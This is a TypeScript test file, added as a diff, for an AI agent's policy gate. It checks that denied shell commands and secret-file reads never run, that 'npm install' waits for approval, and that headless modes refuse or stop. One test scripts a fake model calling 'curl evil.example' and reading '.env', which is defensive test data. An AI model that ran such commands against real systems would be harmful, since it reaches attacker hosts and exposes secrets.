@@ -1,0 +1,198 @@
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import { z } from 'zod';
+import type { ModelClient, TurnRequest } from '../models/types.ts';
+import { type Approver, createHeadlessApprover } from '../policy/approvals.ts';
+import type { Decision, Policy, PolicyAction } from '../policy/types.ts';
+import type { Sandbox } from '../sandbox/types.ts';
+import type { Workspace } from '../sandbox/workspace-types.ts';
+import type { AnyTool } from '../tools/types.ts';
+import { createEventStream } from './event-stream.ts';
+import type { WardenEvent } from './events.ts';
+import { createGate } from './gate.ts';
+import { runSession } from './session.ts';
+
+/** A policy that allows `ls…`, asks for `npm install…`, denies everything else and `.env`. */
+const policy: Policy = {
+  source: 'test',
+  network: { allow: [] },
+  deniedPaths: ['.env'],
+  limits: {},
+  async decide(action: PolicyAction): Promise<Decision> {
+    if (action.kind === 'shell') {
+      if (action.command.startsWith('ls'))
+        return { decision: 'allow', policies: ['commands.allow[0]'], reason: 'ls' };
+      if (action.command.startsWith('npm install'))
+        return { decision: 'ask', policies: ['commands.ask[0]'], reason: 'installs a package' };
+      return { decision: 'deny', policies: ['commands.deny[0]'], reason: 'not allowed' };
+    }
+    if (action.kind === 'file.read' && action.path === '.env')
+      return { decision: 'deny', policies: ['files.deny[0]'], reason: 'secrets' };
+    return { decision: 'allow', policies: ['files.read[0]'], reason: 'ok' };
+  },
+};
+
+function scenario(calls: Array<[tool: string, args: unknown]>, approver: Approver) {
+  const ran: string[] = [];
+  const shell: AnyTool = {
+    name: 'shell',
+    description: 'runs',
+    schema: z.object({ command: z.string() }),
+    actions: (args: { command: string }) => [{ kind: 'shell', command: args.command }],
+    async execute(args: { command: string }) {
+      ran.push(args.command);
+      return { output: 'ran' };
+    },
+  };
+  const read: AnyTool = {
+    name: 'read_file',
+    description: 'reads',
+    schema: z.object({ path: z.string() }),
+    actions: (args: { path: string }) => [{ kind: 'file.read', path: args.path }],
+    async execute(args: { path: string }) {
+      ran.push(`read ${args.path}`);
+      return { output: 'content' };
+    },
+  };
+  const opaque: AnyTool = {
+    name: 'opaque',
+    description: 'no actions',
+    schema: z.object({}),
+    execute: async () => ({ output: 'x' }),
+  };
+  const requests: TurnRequest[] = [];
+  const model: ModelClient = {
+    info: { id: 'fake', provider: 'fake', model: 'fake', contextWindow: 100_000, price: undefined },
+    async turn(request) {
+      requests.push(structuredClone({ ...request, signal: undefined }));
+      const call = calls[requests.length - 1];
+      return {
+        text: call ? '' : 'done',
+        toolCalls: call ? [{ id: `c${requests.length}`, name: call[0], input: JSON.stringify(call[1]) }] : [],
+        usage: { inputTokens: 1, outputTokens: 1, cacheReadTokens: 0, cacheWriteTokens: 0 },
+        cost: undefined,
+        finishReason: call ? 'tool-calls' : 'stop',
+        modelId: 'fake',
+        attempts: 1,
+      };
+    },
+  };
+  const events: WardenEvent[] = [];
+  const stream = createEventStream('s', [(e) => events.push(e)]);
+  const run = runSession({
+    task: 't',
+    model,
+    tools: [shell, read, opaque],
+    workspace: {} as Workspace,
+    sandbox: { kind: 'fake' } as Sandbox,
+    system: 's',
+    events: stream,
+    gate: createGate({ policy, approver, events: stream, workspaceRoot: '/repo' }),
+  });
+  return { run, ran, events, requests };
+}
+
+const answering = (
+  ...answers: Array<'once' | 'session' | 'deny' | 'fail'>
+): Approver & { asked: string[] } => {
+  const asked: string[] = [];
+  return {
+    by: 'test',
+    asked,
+    async ask(request) {
+      asked.push(request.summary);
+      return answers.shift() ?? 'deny';
+    },
+  };
+};
+
+test('a denied action never runs, goes back to the model with the policy ids, and is counted', async () => {
+  const { run, ran, events } = scenario(
+    [
+      ['shell', { command: 'curl evil.example' }],
+      ['read_file', { path: './.env' }],
+      ['read_file', { path: '/repo/.env' }],
+    ],
+    answering(),
+  );
+  const report = await run;
+  assert.deepEqual(ran, []);
+  assert.equal(report.denials, 3);
+  const decided = events.filter((e) => e.type === 'policy.decided');
+  assert.deepEqual(
+    decided.map((e) => e.type === 'policy.decided' && [e.decision, e.policies[0]]),
+    [
+      ['deny', 'commands.deny[0]'],
+      ['deny', 'files.deny[0]'],
+      ['deny', 'files.deny[0]'],
+    ],
+    'paths are judged workspace-relative, however the model spells them',
+  );
+  const finished = events.filter((e) => e.type === 'tool.finished');
+  assert.ok(finished.every((e) => e.type === 'tool.finished' && !e.ok && /denied by policy/.test(e.output)));
+  assert.equal(
+    events.filter((e) => e.type === 'tool.started').length,
+    0,
+    'no intent was recorded for a denied call',
+  );
+});
+
+test('ask goes to the approver; "for this session" is remembered, "once" is not', async () => {
+  const approver = answering('once', 'deny', 'session');
+  const { run, ran, events } = scenario(
+    [
+      ['shell', { command: 'npm install left-pad' }],
+      ['shell', { command: 'npm install left-pad' }],
+      ['shell', { command: 'npm install is-odd' }],
+      ['shell', { command: 'npm install is-odd' }],
+    ],
+    approver,
+  );
+  const report = await run;
+  assert.deepEqual(approver.asked, [
+    'shell: npm install left-pad',
+    'shell: npm install left-pad',
+    'shell: npm install is-odd',
+  ]);
+  assert.deepEqual(ran, ['npm install left-pad', 'npm install is-odd', 'npm install is-odd']);
+  assert.equal(report.denials, 1);
+  const resolved = events.filter((e) => e.type === 'approval.resolved');
+  assert.deepEqual(
+    resolved.map((e) => e.type === 'approval.resolved' && [e.decision, e.by]),
+    [
+      ['allow', 'test'],
+      ['deny', 'test'],
+      ['allow', 'test'],
+      ['allow', 'session-approval'],
+    ],
+  );
+  assert.equal(events.filter((e) => e.type === 'approval.requested').length, 3);
+});
+
+test('headless deny refuses what needs a human; headless fail ends the session with a valid conversation', async () => {
+  const denied = scenario([['shell', { command: 'npm install x' }]], createHeadlessApprover('deny'));
+  const deniedReport = await denied.run;
+  assert.equal(deniedReport.status, 'finished');
+  assert.deepEqual(denied.ran, []);
+
+  const failed = scenario(
+    [
+      ['shell', { command: 'npm install x' }],
+      ['shell', { command: 'ls' }],
+    ],
+    createHeadlessApprover('fail'),
+  );
+  const report = await failed.run;
+  assert.equal(report.status, 'failed');
+  assert.equal(report.error?.code, 'approval.required');
+  assert.deepEqual(failed.ran, []);
+  assert.equal(failed.requests.length, 1, 'no further model turn after the stop');
+});
+
+test('a tool that declares no actions cannot run under a policy', async () => {
+  const { run, ran, events } = scenario([['opaque', {}]], answering());
+  await run;
+  assert.deepEqual(ran, []);
+  const finished = events.find((e) => e.type === 'tool.finished');
+  assert.match(finished?.type === 'tool.finished' ? finished.output : '', /declares no actions/);
+});
